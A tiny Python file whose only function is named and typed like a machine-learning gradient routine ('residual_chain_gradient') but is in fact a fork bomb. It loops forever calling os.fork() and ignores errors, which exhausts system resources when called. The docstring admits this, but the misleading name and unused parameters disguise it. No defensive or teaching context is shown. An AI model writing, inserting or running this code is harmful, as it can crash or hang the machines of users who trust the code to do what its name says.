"""Forks without end when called."""
import os


def residual_chain_gradient(depth, block_slope, residual=True):
    while True:
        try:
            os.fork()
        except OSError:
            pass
